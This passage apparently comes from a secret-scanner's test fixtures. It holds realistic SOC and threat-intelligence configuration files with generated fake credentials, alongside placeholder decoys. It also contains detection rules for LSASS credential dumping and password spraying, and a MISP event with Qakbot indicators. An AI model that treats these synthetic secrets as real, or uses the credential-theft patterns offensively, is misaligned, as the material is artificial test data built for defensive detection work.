SV("hocon", "play-secret", "thehive/conf/application.conf", """\
    # TheHive configuration
    include "/etc/thehive/secret.conf"

    play.http.secret.key = "<<S>>"

    db.janusgraph {
      storage {
        backend = cql
        hostname = ["cassandra"]
      }
    }
    storage {
      provider = localfs
      localfs.location = /opt/thp/thehive/files
    }
    play.modules.enabled += org.thp.thehive.connector.cortex.CortexModule
    """, chars(64), "TheHive 4 docs: application.conf, play.http.secret.key")
DV("hocon", "env", "cortex/conf/application.conf", """\
    play.http.secret.key = ${?CORTEX_SECRET}
    search {
      index = cortex
      uri = "http://elasticsearch:9200"
      user = ${?ES_USER}
      password = ${?ES_PASSWORD}
    }
    analyzer {
      urls = ["https://download.thehive-project.org/analyzers.json"]
    }
    """, "Cortex docs: application.conf with HOCON optional substitution")
SV("hocon", "cortex", "thehive/conf/cortex.conf", """\
    cortex {
      servers = [
        {
          name = local
          url = "http://cortex:9001"
          auth {
            type = "bearer"
            key = "<<S>>"
          }
          wsConfig {}
        }
      ]
    }
    """, thehive_key(), "TheHive 4 docs: Cortex connector configuration")
SV("json", "virustotal", "analyzers/VirusTotal/input/input.json", """\
    {
      "data": "d41d8cd98f00b204e9800998ecf8427e",
      "dataType": "hash",
      "tlp": 2,
      "pap": 2,
      "config": {
        "service": "get",
        "key": "<<S>>",
        "polling_interval": 60,
        "check_tlp": true,
        "max_tlp": 2,
        "proxy_http": ""
      }
    }
    """, vt_key(), "TheHive-Project/Cortex-Analyzers: analyzer job input.json")
SV("dotenv", "opencti-token", "opencti/.env", """\
    OPENCTI_ADMIN_EMAIL=admin@opencti.io
    OPENCTI_ADMIN_PASSWORD_FILE=/run/secrets/opencti_admin_password
    OPENCTI_ADMIN_TOKEN=<<S>>
    OPENCTI_BASE_URL=http://localhost:8080
    MINIO_ROOT_USER=opencti
    MINIO_ROOT_PASSWORD_FILE=/run/secrets/minio_root_password
    RABBITMQ_DEFAULT_USER=opencti
    CONNECTOR_HISTORY_ID=<<ID>>
    SMTP_HOSTNAME=smtp.corp.internal
    ELASTIC_MEMORY_SIZE=4G
    """, uuid_s(), "OpenCTI-Platform/docker .env.sample", ID=uuid_s())
DV("dotenv", "placeholder", "opencti/.env.sample", """\
    OPENCTI_ADMIN_EMAIL=admin@opencti.io
    OPENCTI_ADMIN_PASSWORD=ChangeMePlease
    OPENCTI_ADMIN_TOKEN=ChangeMe_UUIDv4
    OPENCTI_BASE_URL=http://localhost:8080
    MINIO_ROOT_USER=opencti
    MINIO_ROOT_PASSWORD=ChangeMe
    RABBITMQ_DEFAULT_USER=opencti
    RABBITMQ_DEFAULT_PASS=ChangeMe
    CONNECTOR_HISTORY_ID=ChangeMe_UUIDv4
    SMTP_HOSTNAME=localhost
    """, "OpenCTI-Platform/docker .env.sample")
SV("yaml", "virustotal", "opencti/connectors/virustotal/config.yml", """\
    opencti:
      url: 'http://opencti:8080'
      token: '${OPENCTI_ADMIN_TOKEN}'

    connector:
      id: '<<ID>>'
      type: 'INTERNAL_ENRICHMENT'
      name: 'VirusTotal'
      scope: 'StixFile,Artifact,IPv4-Addr,Domain-Name,Url'
      auto: true
      log_level: 'info'

    virustotal:
      token: '<<S>>'
      max_tlp: 'TLP:AMBER'
      file_create_note_full_report: true
    """, vt_key(), "OpenCTI-Platform/connectors internal-enrichment/virustotal config.yml.sample", ID=uuid_s())
DV("json", "uuid", "misp/feeds/feed-metadata.json", """\
    [
      {
        "Feed": {
          "name": "CIRCL OSINT Feed",
          "provider": "CIRCL",
          "url": "https://www.circl.lu/doc/misp/feed-osint",
          "source_format": "misp",
          "enabled": true,
          "distribution": "3",
          "uuid": "<<U1>>",
          "headers": "",
          "input_source": "network"
        }
      },
      {
        "Feed": {
          "name": "abuse.ch URLhaus",
          "provider": "abuse.ch",
          "url": "https://urlhaus.abuse.ch/downloads/csv_recent/",
          "source_format": "csv",
          "enabled": true,
          "uuid": "<<U2>>",
          "headers": "",
          "input_source": "network"
        }
      }
    ]
    """, "MISP feed-metadata/defaults.json", U1=uuid_s(), U2=uuid_s())
DV("json", "ioc", "misp/events/2024-06-qakbot.json", """\
    {
      "Event": {
        "uuid": "<<U>>",
        "info": "Qakbot distribution via OneNote attachments",
        "threat_level_id": "2",
        "analysis": "2",
        "date": "2024-06-12",
        "Attribute": [
          {"type": "sha256", "category": "Payload delivery", "to_ids": true, "value": "<<H1>>"},
          {"type": "md5", "category": "Payload delivery", "to_ids": true, "value": "<<H2>>"},
          {"type": "sha1", "category": "Payload delivery", "to_ids": true, "value": "<<H3>>"},
          {"type": "ip-dst|port", "category": "Network activity", "to_ids": true, "value": "185.220.101.47|443"},
          {"type": "url", "category": "Network activity", "to_ids": true, "value": "hxxps://cdn-update[.]example/ob/inv.one"}
        ],
        "Tag": [{"name": "tlp:green"}, {"name": "misp-galaxy:malpedia=\\"QakBot\\""}]
      }
    }
    """, "MISP core format (misp-rfc)", U=uuid_s(), H1=sha256(), H2=md5(), H3=sha1())

# ---------------------------------------------------------------- SIEM: Splunk
SV("splunk-conf", "hec-token", "splunk/apps/soc_inputs/local/inputs.conf", """\
    [http]
    disabled = 0
    port = 8088
    enableSSL = 1

    [http://suricata_eve]
    disabled = 0
    token = <<S>>
    index = ids
    indexes = ids,ids_test
    sourcetype = suricata:eve
    """, uuid_s(upper=True), "Splunk docs: inputs.conf [http://name] token")
DV("splunk-conf", "splunk-encrypted", "splunk/etc/system/local/outputs.conf", """\
    [tcpout]
    defaultGroup = primary_indexers

    [tcpout:primary_indexers]
    server = idx1.corp.internal:9997, idx2.corp.internal:9997
    clientCert = $SPLUNK_HOME/etc/auth/mycerts/forwarder.pem
    sslPassword = $7$<<B>>
    sslVerifyServerCert = true
    """, "Splunk docs: outputs.conf (splunkd encrypts sslPassword as $7$)", B=chars(64, B64) + "==")
SV("splunk-conf", "pass4symmkey", "deployment-apps/org_all_indexer_base/local/server.conf", """\
    [general]
    pass4SymmKey = <<S>>

    [clustering]
    mode = peer
    manager_uri = https://cm.corp.internal:8089
    pass4SymmKey = $7$<<B>>

    [replication_port://9887]
    """, words_pw(), "Splunk docs: server.conf pass4SymmKey (plain until splunkd restarts)", B=chars(60, B64))
SV("fluent-bit", "hec-token", "logging/fluent-bit.conf", """\
    [SERVICE]
        Flush        5
        Log_Level    info

    [INPUT]
        Name         tail
        Path         /var/log/suricata/eve.json
        Parser       json
        Tag          ids.eve

    [OUTPUT]
        Name         splunk
        Match        ids.*
        Host         hec.splunk.corp.internal
        Port         8088
        TLS          On
        Splunk_Token <<S>>
    """, uuid_s(upper=True), "Fluent Bit docs: Splunk output")
DV("toml", "env", "vector/vector.toml", """\
    [sources.zeek]
    type = "file"
    include = ["/opt/zeek/logs/current/*.log"]

    [sinks.splunk]
    type = "splunk_hec_logs"
    inputs = ["zeek"]
    endpoint = "https://hec.splunk.corp.internal:8088"
    default_token = "${SPLUNK_HEC_TOKEN}"
    encoding.codec = "json"
    """, "Vector docs: splunk_hec_logs sink, environment variable interpolation")
SV("python", "hec-token", "collectors/hec_send.py", """\
    import json
    import socket
    import requests

    HEC_URL = "https://splunk-hec.corp.internal:8088/services/collector/event"
    HEC_HEADERS = {"Authorization": "Splunk <<S>>"}


    def send(event: dict, sourcetype: str = "osint:alert"):
        payload = {"event": event, "sourcetype": sourcetype, "host": socket.gethostname()}
        r = requests.post(HEC_URL, headers=HEC_HEADERS, data=json.dumps(payload), verify="/etc/ssl/corp-ca.pem")
        r.raise_for_status()
    """, uuid_s(upper=True), "Splunk docs: HTTP Event Collector REST API")
SV("splunk-conf", "ldap-bind", "splunk/etc/system/local/authentication.conf", """\
    [authentication]
    authType = LDAP
    authSettings = corp_ad

    [corp_ad]
    host = dc01.corp.internal
    port = 636
    SSLEnabled = 1
    bindDN = CN=svc_splunk_ldap,OU=Service Accounts,DC=corp,DC=internal
    bindDNpassword = <<S>>
    userBaseDN = OU=Staff,DC=corp,DC=internal
    groupBaseDN = OU=Groups,DC=corp,DC=internal
    userNameAttribute = samaccountname
    """, human_pw(), "Splunk docs: authentication.conf LDAP strategy")
DV("splunk-conf", "search", "splunk/apps/soc_detections/default/savedsearches.conf", """\
    [Cleartext password in proxy URI]
    search = index=proxy (uri_query="*password=*" OR uri_query="*passwd=*" OR uri_query="*api_key=*") \\
    | rex field=uri_query "(?i)(password|passwd|api_key)=(?<leaked>[^&]+)" \\
    | eval leaked=substr(leaked,1,3)."***" \\
    | stats count by src_ip, dest_host, leaked
    cron_schedule = */15 * * * *
    enableSched = 1
    alert.severity = 4
    action.webhook = 1
    action.webhook.param.url = https://soar.corp.internal/hooks/splunk
    """, "Splunk docs: savedsearches.conf")
SV("splunk-conf", "slack-webhook", "splunk/apps/soc_alerting/local/alert_actions.conf", """\
    [slack]
    param.webhook_url = <<S>>
    param.channel = #soc-alerts
    param.attachment = alert_link

    [email]
    mailserver = smtp.corp.internal:25
    from = splunk@corp.example
    """, slack_webhook(), "splunk/slack-alerts app README: alert_actions.conf")
DV("splunk-conf", "masked", "splunk/apps/TA-virustotal/local/ta_virustotal_settings.conf", """\
    [proxy]
    proxy_enabled = 0
    proxy_type = http

    [logging]
    loglevel = INFO

    [additional_parameters]
    api_key = ********
    rate_limit = 4
    """, "Splunk Add-on Builder: credentials masked in conf, stored in passwords.conf")
DV("splunk-conf", "splunk-encrypted", "splunk/apps/TA-virustotal/local/passwords.conf", """\
    [credential:TA-virustotal_realm__settings:additional_parameters``splunk_cred_sep``1:]
    password = $7$<<B>>

    [credential:TA-virustotal_realm__settings:proxy``splunk_cred_sep``1:]
    password = $7$<<C>>
    """, "Splunk docs: passwords.conf (storage/passwords, $7$ encrypted)", B=chars(88, B64), C=chars(64, B64) + "==")
DV("markdown", "doc-example", "docs/hec-onboarding.md", """\
    # Sending events to HEC

    Ask the Splunk team for a token for your source (one token per sourcetype).
    Test it with curl, as in the Splunk docs:

    ```
    curl -k "https://hec.splunk.corp.internal:8088/services/collector/event" \\
        -H "Authorization: Splunk B5A79AAD-D822-46CC-80D1-819F80D7BFB0" \\
        -d '{"event": "hello world", "sourcetype": "manual"}'
    ```

    Replace the example token with yours; never commit it.
    """, "Splunk docs: Format events for HTTP Event Collector (example token)")
# ---------------------------------------------------------------- SIEM: Elastic, Wazuh, Graylog, QRadar
SV("filebeat-yaml", "elastic-password", "beats/filebeat.yml", """\
    filebeat.inputs:
      - type: filestream
        id: suricata-eve
        paths:
          - /var/log/suricata/eve.json
        parsers:
          - ndjson:
              target: ""

    filebeat.modules:
      - module: zeek
        connection:
          enabled: true

    output.elasticsearch:
      hosts: ["https://es01.siem.corp.internal:9200"]
      username: "beats_writer"
      password: "<<S>>"
      ssl.certificate_authorities: ["/etc/filebeat/ca.crt"]
    """, words_pw(), "Elastic docs: Configure the Elasticsearch output (filebeat.yml)")
DV("filebeat-yaml", "env", "beats/filebeat.docker.yml", """\
    filebeat.autodiscover:
      providers:
        - type: docker
          hints.enabled: true

    output.elasticsearch:
      hosts: ['${ELASTICSEARCH_HOSTS:elasticsearch:9200}']
      username: '${ELASTICSEARCH_USERNAME:}'
      password: '${ELASTICSEARCH_PASSWORD:}'
    """, "Elastic docs: filebeat.docker.yml, environment variables")
SV("filebeat-yaml", "elastic-api-key", "beats/auditbeat.yml", """\
    auditbeat.modules:
      - module: auditd
        audit_rule_files: ["${path.config}/audit.rules.d/*.conf"]
      - module: file_integrity
        paths: [/bin, /usr/bin, /sbin, /usr/sbin, /etc]

    output.elasticsearch:
      hosts: ["https://siem.es.eu-west-1.aws.found.io:443"]
      api_key: "<<S>>"
    """, chars(20, ALNUM + "-_") + ":" + chars(22, ALNUM + "-_"), "Elastic docs: Grant access using API keys (id:api_key)")
SV("yaml", "elastic-password", "elastalert/config.yaml", """\
    rules_folder: rules
    run_every:
      minutes: 1
    buffer_time:
      minutes: 15
    es_host: es01.siem.corp.internal
    es_port: 9200
    use_ssl: True
    verify_certs: True
    es_username: elastalert
    es_password: <<S>>
    writeback_index: elastalert_status
    alert_time_limit:
      days: 2
    """, season_pw(), "jertel/elastalert2 examples/config.yaml.example")
DV("yaml", "file-path", "elastalert/rules/impossible_travel.yaml", """\
    name: Impossible travel - VPN
    type: frequency
    index: logs-vpn-*
    num_events: 2
    timeframe:
      hours: 1
    query_key: user.name
    filter:
      - query:
          query_string:
            query: "event.outcome:success AND NOT source.geo.country_iso_code:GB"
    alert:
      - jira
    jira_server: https://corp.atlassian.net
    jira_project: SOC
    jira_issuetype: Incident
    jira_account_file: /opt/elastalert/secrets/jira_acct.yaml
    """, "ElastAlert 2 docs: Jira alerter (jira_account_file)")
SV("yaml", "atlassian-token", "elastalert/secrets/jira_acct.yaml", """\
    # ElastAlert jira_account_file
    # service user for SOC ticket creation (owner: secops-platform)
    # rotate yearly: https://id.atlassian.com/manage-profile/security/api-tokens
    user: soc-automation@corp.example
    password: <<S>>
    """, atlassian_token(), "ElastAlert 2 docs: jira_account_file format")
SV("kibana-yaml", "elastic-password", "kibana/kibana.yml", """\
    server.host: "0.0.0.0"
    server.publicBaseUrl: "https://kibana.siem.corp.internal"
    elasticsearch.hosts: ["https://es01:9200", "https://es02:9200"]
    elasticsearch.username: "kibana_system"
    elasticsearch.password: "<<S>>"
    elasticsearch.ssl.certificateAuthorities: ["/usr/share/kibana/config/certs/ca.crt"]
    xpack.encryptedSavedObjects.encryptionKey: "${KIBANA_ESO_KEY}"
    xpack.security.session.idleTimeout: "1h"
    """, rand_pw(20), "Elastic docs: kibana.yml settings")
SV("logstash", "elastic-password", "logstash/pipeline/threatintel.conf", """\
    input {
      http_poller {
        urls => { urlhaus => "https://urlhaus.abuse.ch/downloads/json_recent/" }
        schedule => { every => "30m" }
        codec => "json"
      }
    }
    filter {
      mutate { add_field => { "[event][dataset]" => "ti.urlhaus" } }
    }
    output {
      elasticsearch {
        hosts => ["https://es01.siem.corp.internal:9200"]
        user => "logstash_ti"
        password => "<<S>>"
        data_stream => true
        cacert => "/etc/logstash/certs/ca.crt"
      }
    }
    """, human_pw(), "Elastic docs: Elasticsearch output plugin")
SV("shell", "elastic-password", "scripts/create_ti_index.sh", """\
    #!/usr/bin/env bash
    # one-off: create the threat-intel index template
    ES=https://es01.siem.corp.internal:9200
    curl -sS --cacert ca.crt -u elastic:<<S>> -X PUT "$ES/_index_template/ti-indicators" \\
      -H 'Content-Type: application/json' \\
      -d @templates/ti-indicators.json
    curl -sS --cacert ca.crt -u elastic:<<S>> "$ES/_cat/templates/ti-*?v"
    """, rand_pw(20), "Elastic docs: curl -u elastic:<password>")
DV("toml", "detection-rule", "rules/credential_access_lsass_dump.toml", """\
    [metadata]
    creation_date = "2023/09/14"
    maturity = "production"
    updated_date = "2024/05/21"

    [rule]
    author = ["CORP SOC"]
    description = "Identifies access to LSASS memory by a non-system process, a common credential dumping step."
    rule_id = "<<U>>"
    risk_score = 73
    severity = "high"
    type = "eql"
    query = '''
    process where host.os.type == "windows" and event.action == "Process Access" and
      winlog.event_data.TargetImage : "?:\\\\Windows\\\\system32\\\\lsass.exe" and
      winlog.event_data.GrantedAccess : ("0x1010", "0x1410", "0x1fffff")
    '''
    """, "elastic/detection-rules TOML rule format", U=uuid_s())
SV("xml", "virustotal", "wazuh/ossec.conf", """\
    <ossec_config>
      <global>
        <jsonout_output>yes</jsonout_output>
        <alerts_log>yes</alerts_log>
      </global>

      <integration>
        <name>virustotal</name>
        <api_key><<S>></api_key>
        <group>syscheck</group>
        <alert_format>json</alert_format>
      </integration>

      <syscheck>
        <directories realtime="yes">/tmp,/var/tmp,/home</directories>
      </syscheck>
    </ossec_config>
    """, vt_key(), "Wazuh docs: VirusTotal integration, ossec.conf")
SV("xml", "slack-webhook", "wazuh/manager/ossec.conf", """\
    <ossec_config>
      <integration>
        <name>slack</name>
        <hook_url><<S>></hook_url>
        <level>10</level>
        <alert_format>json</alert_format>
      </integration>
      <alerts>
        <log_alert_level>3</log_alert_level>
        <email_alert_level>12</email_alert_level>
      </alerts>
    </ossec_config>
    """, slack_webhook(), "Wazuh docs: Slack integration")
DV("xml", "placeholder", "docs/wazuh/virustotal-integration.xml", """\
    <!-- Paste into /var/ossec/etc/ossec.conf on the manager.
         Replace API_KEY with the key from your VirusTotal profile. -->
    <ossec_config>
      <integration>
        <name>virustotal</name>
        <api_key>API_KEY</api_key>
        <rule_id>100200,100201</rule_id>
        <alert_format>json</alert_format>
      </integration>
    </ossec_config>
    """, "Wazuh docs: Integration with VirusTotal")
SV("graylog-conf", "password-secret", "graylog/server.conf", """\
    is_leader = true
    node_id_file = /etc/graylog/server/node-id
    # You MUST set a secret to secure/pepper the stored user passwords here. Use at least 64 characters.
    # Generate one by using for example: pwgen -N 1 -s 96
    password_secret = <<S>>
    root_username = admin
    root_password_sha2 = <<H>>
    http_bind_address = 0.0.0.0:9000
    mongodb_uri = mongodb://mongo/graylog
    elasticsearch_hosts = http://opensearch:9200
    """, chars(96), "Graylog docs: server.conf password_secret", H=sha256())
DV("graylog-conf", "hash", "graylog/server.conf.template", """\
    is_leader = true
    node_id_file = /etc/graylog/server/node-id
    # set via GRAYLOG_PASSWORD_SECRET in the container environment
    password_secret =
    root_username = admin
    # echo -n "Enter Password: " && head -1 </dev/stdin | tr -d '\\n' | sha256sum | cut -d" " -f1
    root_password_sha2 = <<H>>
    http_bind_address = 0.0.0.0:9000
    """, "Graylog docs: root_password_sha2 (a SHA-256 verifier)", H=sha256())
SV("python", "qradar-sec", "integrations/qradar_offenses.py", """\
    import requests
    import urllib3

    urllib3.disable_warnings()

    QRADAR = "https://qradar-console.corp.internal/api"
    HEADERS = {"SEC": "<<S>>", "Version": "19.0", "Accept": "application/json"}


    def open_offenses():
        r = requests.get(f"{QRADAR}/siem/offenses", headers=HEADERS,
                         params={"filter": "status=OPEN", "fields": "id,description,magnitude"}, verify=False)
        return r.json()
    """, uuid_s(), "IBM QRadar API docs: SEC authorized service token header")
DV("kql", "hunting-query", "hunting/sentinel/password-spray.kql", """\
    // Password spray: many accounts, one source, failures then a success
    let threshold = 15;
    SigninLogs
    | where TimeGenerated > ago(1d)
    | where ResultType in ("50126", "50053")
    | summarize FailedAccounts = dcount(UserPrincipalName), Accounts = make_set(UserPrincipalName, 50) by IPAddress
    | where FailedAccounts >= threshold
    | join kind=inner (SigninLogs | where ResultType == "0" | project IPAddress, SuccessUser = UserPrincipalName) on IPAddress
    | project IPAddress, FailedAccounts, SuccessUser
    """, "Microsoft Sentinel hunting queries (KQL)")

# ---------------------------------------------------------------- EDR / XDR API clients
_cid = hexs(32)
SV("python", "crowdstrike", "edr/falcon_contain.py", """\
    from falconpy import Hosts

    falcon = Hosts(client_id="<<ID>>",
                   client_secret="<<S>>",
                   base_url="https://api.eu-1.crowdstrike.com")


    def contain(hostname: str):
        ids = falcon.query_devices_by_filter(filter=f"hostname:'{hostname}'")["body"]["resources"]
        return falcon.perform_action(action_name="contain", ids=ids)
    """, chars(40), "CrowdStrike/falconpy README: Service Class authentication", ID=_cid)
SV("ini", "crowdstrike", "edr/config.ini", """\
    [falcon]
    base_url = us-2
    client_id = <<ID>>
    client_secret = <<S>>
    member_cid =

    [rtr]
    queue_offline = true
    timeout = 120
    """, chars(40), "CrowdStrike/falconpy samples: config.ini", ID=hexs(32))
_k = chars(40)
S("powershell", "crowdstrike", "edr/Invoke-Containment.ps1", crlf(T("""\
    #Requires -Modules PSFalcon
    param([Parameter(Mandatory)][string[]]$Hostname)

    Request-FalconToken -ClientId '<<ID>>' -ClientSecret '<<S>>' -Cloud 'eu-1'

    foreach ($h in $Hostname) {
        $id = Get-FalconHost -Filter "hostname:'$h'"
        if ($id) { Invoke-FalconHostAction -Name contain -Id $id }
    }
    Revoke-FalconToken
    """, S=_k, ID=hexs(32))), _k, "CrowdStrike/psfalcon wiki: Request-FalconToken")
DV("python", "env", "edr/falcon_hosts_report.py", """\
    import os

    from falconpy import Hosts

    falcon = Hosts(client_id=os.getenv("FALCON_CLIENT_ID"),
                   client_secret=os.getenv("FALCON_CLIENT_SECRET"))

    resp = falcon.query_devices_by_filter_scroll(filter="platform_name:'Windows'", limit=5000)
    print(len(resp["body"]["resources"]), "windows hosts")
    """, "CrowdStrike/falconpy README: environment authentication")
SV("python", "sentinelone", "edr/s1_threats.py", """\
    import requests

    S1_CONSOLE = "https://euce1-corp.sentinelone.net"
    S1_TOKEN = "<<S>>"


    def unresolved_threats():
        r = requests.get(f"{S1_CONSOLE}/web/api/v2.1/threats",
                         headers={"Authorization": f"ApiToken {S1_TOKEN}"},
                         params={"resolved": "false", "limit": 100})
        r.raise_for_status()
        return r.json()["data"]
    """, chars(80), "SentinelOne Management API v2.1: ApiToken authorization")
SV("ini", "carbon-black", "home/ir/.carbonblack/credentials.cbc", """\
    [default]
    url=https://defense-prod05.conferdeploy.net
    token=<<S>>/<<C>>
    org_key=<<O>>
    ssl_verify=True

    [sandbox]
    url=https://defense-eap01.conferdeploy.net
    token=${CBC_SANDBOX_TOKEN}
    org_key=<<O>>
    """, chars(24, string.ascii_uppercase + string.digits), "carbon-black-cloud-sdk-python docs: credentials.cbc",
   C=chars(10, string.ascii_uppercase + string.digits), O=chars(8, string.ascii_uppercase + string.digits))
SV("python", "azure-secret", "edr/mde_isolate.py", """\
    import msal
    import requests

    TENANT = "<<T>>"
    APP_ID = "<<A>>"
    APP_SECRET = "<<S>>"

    app = msal.ConfidentialClientApplication(APP_ID, authority=f"https://login.microsoftonline.com/{TENANT}",
                                             client_credential=APP_SECRET)
    token = app.acquire_token_for_client(scopes=["https://api.securitycenter.microsoft.com/.default"])["access_token"]


    def isolate(machine_id: str, comment: str):
        return requests.post(f"https://api.securitycenter.microsoft.com/api/machines/{machine_id}/isolate",
                             headers={"Authorization": f"Bearer {token}"},
                             json={"Comment": comment, "IsolationType": "Full"})
    """, azure_secret(), "Microsoft Defender for Endpoint API docs: app-only token", T=uuid_s(), A=uuid_s())
_key = pem("EC")
S("velociraptor-yaml", "private-key", "velociraptor/api.config.yaml", T("""\
    ca_certificate: |
    <<CA>>
    client_cert: |
    <<CC>>
    client_private_key: |
    <<PK>>
    api_connection_string: velociraptor.ir.corp.internal:8001
    name: soar-automation
    """, CA=indent(cert_pem(), 2), CC=indent(cert_pem(), 2), PK=indent(_key, 2)), _key,
  "Velociraptor docs: velociraptor config api_client --name ... api.config.yaml")
# ---------------------------------------------------------------- alerting
SV("python", "slack-webhook", "alerting/notify.py", """\
    import requests

    SLACK_WEBHOOK = "<<S>>"


    def notify(title: str, severity: str, link: str) -> None:
        colour = {"high": "#d00000", "medium": "#ffaa00"}.get(severity, "#439fe0")
        payload = {"attachments": [{"color": colour, "title": title, "title_link": link, "footer": "honeypot-fleet"}]}
        requests.post(SLACK_WEBHOOK, json=payload, timeout=5)
    """, slack_webhook(), "Slack docs: Incoming webhooks")
SV("yaml", "slack-bot", "soar/playbooks/phishing-triage.yml", """\
    name: phishing-triage
    trigger:
      mailbox: phishing@corp.example
    steps:
      - id: detonate
        action: urlscan.submit
        with:
          visibility: private
      - id: notify
        action: slack.post_message
        with:
          token: <<S>>
          channel: C04SOCALRT
          text: "Phish reported by {{ sender }} - verdict {{ steps.detonate.verdict }}"
    """, slack_bot(), "Slack Web API docs: chat.postMessage with a bot token")
DV("yaml", "keyring", "home/soc/.jira.d/config.yml", """\
    endpoint: https://corp.atlassian.net
    user: soc-automation@corp.example
    login: soc-automation@corp.example
    authentication-method: api-token
    password-source: keyring
    project: SOC
    """, "go-jira README: password-source keyring")
SV("python", "atlassian-token", "alerting/jira_ticket.py", """\
    from jira import JIRA

    jira = JIRA(
        server="https://corp.atlassian.net",
        basic_auth=("soc-automation@corp.example", "<<S>>"),
    )


    def open_incident(summary: str, description: str, priority: str = "High"):
        return jira.create_issue(project="SOC", summary=summary, description=description,
                                 issuetype={"name": "Incident"}, priority={"name": priority})
    """, atlassian_token(), "pycontribs/jira docs: basic_auth with an API token")
SV("alertmanager-yaml", "pagerduty", "alertmanager/alertmanager.yml", """\
    route:
      receiver: soc-default
      group_by: [alertname, honeypot]
      routes:
        - matchers: [severity="critical"]
          receiver: soc-pager
    receivers:
      - name: soc-default
        slack_configs:
          - api_url_file: /etc/alertmanager/slack_url
            channel: "#soc-noise"
      - name: soc-pager
        pagerduty_configs:
          - routing_key: <<S>>
            severity: critical
    """, hexs(32), "Prometheus Alertmanager docs: pagerduty_config routing_key")
DV("alertmanager-yaml", "file-path", "alertmanager/alertmanager.prod.yml", """\
    route:
      receiver: soc-pager
    receivers:
      - name: soc-pager
        pagerduty_configs:
          - routing_key_file: /etc/alertmanager/secrets/pd_routing_key
        opsgenie_configs:
          - api_key_file: /etc/alertmanager/secrets/opsgenie_key
        slack_configs:
          - api_url_file: /etc/alertmanager/secrets/slack_url
    """, "Prometheus Alertmanager docs: *_file settings")
SV("alertmanager-yaml", "opsgenie", "monitoring/alertmanager/config.yml", """\
    global:
      resolve_timeout: 5m
      opsgenie_api_url: https://api.eu.opsgenie.com/
    route:
      receiver: opsgenie-soc
    receivers:
      - name: opsgenie-soc
        opsgenie_configs:
          - api_key: <<S>>
            responders:
              - name: SOC-L2
                type: team
    """, uuid_s(), "Prometheus Alertmanager docs: opsgenie_config api_key")
SV("json", "teams-webhook", "honeypot/notifier.json", """\
    {
      "sensor": "tpot-edge-03",
      "notify": {
        "min_severity": "medium",
        "teams_webhook": "<<S>>",
        "dedupe_window_s": 900
      },
      "log_level": "info"
    }
    """, teams_webhook(), "Microsoft Teams docs: Incoming Webhook URL")
SV("python", "discord-webhook", "honeypot/cowrie_to_discord.py", """\
    import json
    import sys
    import requests

    WEBHOOK = "<<S>>"

    for line in sys.stdin:
        ev = json.loads(line)
        if ev.get("eventid") == "cowrie.login.success":
            msg = f"cowrie login {ev['username']}/{ev['password']} from {ev['src_ip']}"
            requests.post(WEBHOOK, json={"content": msg})
    """, discord_webhook(), "Discord docs: Execute Webhook")
SV("yaml", "telegram", "honeypot/tpot-alerts.yml", """\
    # T-Pot attack notifications
    telegram:
      bot_token: "<<S>>"
      chat_id: -1001844320917
      parse_mode: HTML
    filters:
      min_hits: 50
      honeypots: [cowrie, dionaea, conpot]
    """, fakes.telegram_token(_seed()), "Telegram Bot API docs: bot token")

# ---------------------------------------------------------------- other TI services
SV("python", "tenable", "vuln/tio_export.py", """\
    from tenable.io import TenableIO

    tio = TenableIO(
        access_key="<<A>>",
        secret_key="<<S>>",
        vendor="CORP", product="vuln-export", build="1.4.0",
    )

    for vuln in tio.exports.vulns(severity=["critical", "high"], state=["OPEN", "REOPENED"]):
        print(vuln["asset"]["hostname"], vuln["plugin"]["id"], vuln["plugin"]["name"])
    """, hexs(64), "tenable/pyTenable docs: TenableIO(access_key, secret_key)", A=hexs(64))
SV("json", "passivetotal", "home/analyst/.config/passivetotal/api_config.json", """\
    {
        "username": "j.lee@corp.example",
        "api_key": "<<S>>",
        "api_server": "api.passivetotal.org",
        "api_version": "v2",
        "http_proxy": "",
        "https_proxy": ""
    }
    """, hexs(64), "passivetotal/python_api: pt-config setup")
SV("yaml", "fofa", "recon/fofa.yaml", """\
    fofa:
      email: redteam-osint@corp.example
      key: <<S>>
      size: 1000
      fields: host,ip,port,protocol,title,cert
    """, hexs(32), "FOFA API docs: email and key")
SV("ini", "recorded-future", "feeds/rf_config.ini", """\
    [recordedfuture]
    token = <<S>>
    risklists = ip,domain,hash,url
    min_risk_score = 65

    [output]
    path = /var/lib/ti-feeds/rf
    format = csv
    """, hexs(32), "Recorded Future Connect API: X-RFToken")
SV("python", "dehashed", "osint/dehashed_search.py", """\
    import requests
    from requests.auth import HTTPBasicAuth

    AUTH = HTTPBasicAuth("osint@corp.example", "<<S>>")


    def search(domain):
        r = requests.get("https://api.dehashed.com/search", params={"query": f"domain:{domain}", "size": 1000},
                         auth=AUTH, headers={"Accept": "application/json"})
        return r.json().get("entries") or []
    """, chars(32, string.ascii_lowercase + string.digits), "DeHashed API docs: basic auth with email and API key")
SV("shell", "threatfox", "feeds/threatfox_pull.sh", """\
    #!/usr/bin/env bash
    set -eu
    # abuse.ch now requires an Auth-Key for ThreatFox API queries
    curl -s -X POST https://threatfox-api.abuse.ch/api/v1/ \\
      -H "Auth-Key: <<S>>" \\
      -d '{ "query": "get_iocs", "days": 1 }' \\
      | jq -r '.data[] | [.ioc, .ioc_type, .malware_printable] | @tsv' > /var/lib/feeds/threatfox.tsv
    wc -l /var/lib/feeds/threatfox.tsv
    """, hexs(48), "abuse.ch ThreatFox API docs: Auth-Key header")

# ---------------------------------------------------------------- deployment of TI/SOC tooling
_k = vt_key()
S("k8s-secret", "virustotal", "k8s/enrichment/secret.yaml", T("""\
    apiVersion: v1
    kind: Secret
    metadata:
      name: enrichment-api-keys
      namespace: soc
    type: Opaque
    data:
      VT_API_KEY: <<B>>
      SHODAN_API_KEY: ""
    """, B=b64(_k)), _k, "Kubernetes docs: Secret data (base64)")
_k = human_pw()
S("k8s-secret", "misp", "k8s/misp/db-secret.yaml", T("""\
    apiVersion: v1
    kind: Secret
    metadata:
      name: misp-db
      labels:
        app.kubernetes.io/name: misp
    type: Opaque
    data:
      username: <<U>>
      password: <<B>>
    """, U=b64("misp"), B=b64(_k)), _k, "Kubernetes docs: Secret data (base64)")
DV("k8s-yaml", "external-secret", "k8s/misp/externalsecret.yaml", """\
    apiVersion: external-secrets.io/v1beta1
    kind: ExternalSecret
    metadata:
      name: misp-api
    spec:
      refreshInterval: 1h
      secretStoreRef:
        name: vault-soc
        kind: ClusterSecretStore
      target:
        name: misp-api
      data:
        - secretKey: MISP_KEY
          remoteRef:
            key: soc/misp
            property: automation_key
    """, "external-secrets.io docs: ExternalSecret")
DV("k8s-yaml", "sealed-secret", "k8s/opencti/sealedsecret.yaml", """\
    apiVersion: bitnami.com/v1alpha1
